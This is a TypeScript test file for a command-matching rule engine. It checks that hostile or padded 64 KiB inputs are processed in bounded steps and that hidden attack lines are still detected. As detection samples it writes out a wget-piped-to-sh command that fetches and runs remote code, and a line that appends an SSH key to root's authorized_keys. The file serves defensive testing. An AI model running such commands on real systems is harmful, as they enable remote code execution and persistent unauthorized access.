import assert from "assert";
import { analyseCommand } from "../../../lib/rules/command/analysis.ts";
import {
  FIELD_SEARCH_STEPS,
  READING_STEPS,
  SEARCH_STEPS,
  WorkMeter,
} from "../../../lib/rules/compile/work_meter.ts";
import { loadPack } from "../../../lib/rules/pack.ts";
import { RuleSet } from "../../../lib/rules/run/rule_set.ts";
import { rulesOf, ruleText } from "../rule_text.ts";
import { CHANCE_SHAPES, HOSTILE_SHAPES, stuffedShapes } from "./hostile_texts.ts";

const KIB = 1024;
const LONGEST = 64 * KIB;

const pack = RuleSet.compile(loadPack().rules);

/** What the whole pack takes for a command. */
function workOf(text: string): { readonly steps: number; readonly truncated: boolean } {
  pack.match("command", { command_text: text });
  const { steps, truncated } = pack.work;
  return { steps, truncated };
}

for (const { name, text } of [...HOSTILE_SHAPES, ...CHANCE_SHAPES]) {
  Deno.test(`64 KiB of ${name} are read and matched in bounded steps`, () => {
    const work = new WorkMeter();
    const { truncated } = analyseCommand(text(LONGEST), work);
    assert.ok(work.steps <= READING_STEPS + LONGEST, `${work.steps} steps`);
    assert.equal(truncated, work.truncated);
    const { steps } = workOf(text(LONGEST));
    assert.ok(steps <= READING_STEPS + SEARCH_STEPS + 16 * LONGEST, `${steps} steps`);
  });
}

for (const { name, text } of HOSTILE_SHAPES) {
  Deno.test(`twice as much of ${name} takes at most twice as many steps`, () => {
    const sizes = [16 * KIB, 32 * KIB, LONGEST];
    const works = sizes.map((characters) => workOf(text(characters)));
    for (const [index, { steps, truncated }] of works.entries()) {
      const half = works[index - 1];
      if (half === undefined) continue;
      // The first size that is not read to its end is gone through again, split at separators.
      const again = truncated && !half.truncated ? 3 * sizes[index]! : 0;
      assert.ok(steps <= 2.2 * half.steps + again, `${half.steps} grow to ${steps} steps`);
    }
  });
}

/** What an attacker would hide, and what a rule that finds it asks for. */
const HIDDEN: readonly {
  readonly line: string;
  readonly match: Readonly<Record<string, unknown>>;
  /** Shapes in the middle of which the line is no command, or one of too many like it. */
  readonly hiddenIn?: readonly string[];
}[] = [
  { line: "wget http://192.0.2.7/x -O- | sh", match: { program: ["wget"], piped_into: ["sh"] } },
  { line: "crontab -e", match: { program: ["crontab"], args: "^-e" } },
  {
    line: "echo k >> /root/.ssh/authorized_keys",
    match: { writes: "authorized_keys$" },
    hiddenIn: ["files", "writes of a group"],
  },
];

for (const { line, match, hiddenIn } of HIDDEN) {
  Deno.test(`${line} is found at the beginning, in the middle and at the end of padding`, () => {
    const structure = ruleText({ rule_id: "T1", match: JSON.stringify({ command: match }) });
    const raw = ruleText({ rule_id: "T2", match: JSON.stringify({ contains: line }) });
    const rules = RuleSet.compile(rulesOf(structure, raw));
    for (const { name, text } of HOSTILE_SHAPES) {
      const padding = text(LONGEST - line.length - 2);
      for (const at of [0, padding.length >> 1, padding.length]) {
        const padded = `${padding.slice(0, at)};${line};${padding.slice(at)}`;
        const ids = rules.match("command", { command_text: padded })
          .map(({ rule }) => rule.document.rule_id);
        const isMiddle = at > 0 && at < padding.length;
        const hides = isMiddle && (hiddenIn?.includes(name) || name === "one quoted argument");
        assert.deepEqual(ids, hides ? ["T2"] : ["T1", "T2"], `${name} at ${at}`);
      }
    }
  });
}

const STUFFED = stuffedShapes(loadPack().rules);

for (const { name, text } of STUFFED) {
  for (const [kind, field] of [["command", "command_text"], ["http_request", "raw_url"]] as const) {
    Deno.test(`64 KiB of ${name} as ${kind} are matched in bounded steps, and say so`, () => {
      const matches = pack.match(kind, { [field]: text(LONGEST) });
      const { steps, truncated } = pack.work;
      assert.ok(steps <= READING_STEPS + FIELD_SEARCH_STEPS + 16 * LONGEST, `${steps} steps`);
      assert.equal(truncated, true);
      assert.ok(matches.length > 0);
      for (const { rule, hit } of matches) assert.equal(hit.truncated, true, rule.document.rule_id);
    });
  }
}

for (const { line, match } of HIDDEN) {
  Deno.test(`${line} is found at both ends of a text that uses up the searches of the pack`, () => {
    const structure = ruleText({ rule_id: "X1", match: JSON.stringify({ command: match }) });
    const raw = ruleText({ rule_id: "X2", match: JSON.stringify({ contains: line }) });
    const escaped = line.replace(/[.|/]/g, "\\$&");
    const pattern = ruleText({ rule_id: "X3", match: JSON.stringify({ pattern: escaped }) });
    const rules = RuleSet.compile([
      ...loadPack().rules,
      ...rulesOf(structure, raw, pattern),
    ]);
    for (const { name, text } of STUFFED) {
      const padding = text(LONGEST - line.length - 2);
      for (const padded of [`${line};\n${padding}`, `${padding};\n${line}`]) {
        const typed = padded.slice(-LONGEST);
        const matches = rules.match("command", { command_text: typed });
        assert.equal(rules.work.truncated, true);
        const found = matches.filter(({ rule }) => /^X/.test(rule.document.rule_id));
        assert.deepEqual(found.map(({ rule }) => rule.document.rule_id), ["X1", "X2", "X3"], name);
        const { start, end } = found[2]!.hit;
        assert.equal(typed.slice(start, end), line);
      }
    }
  });
}
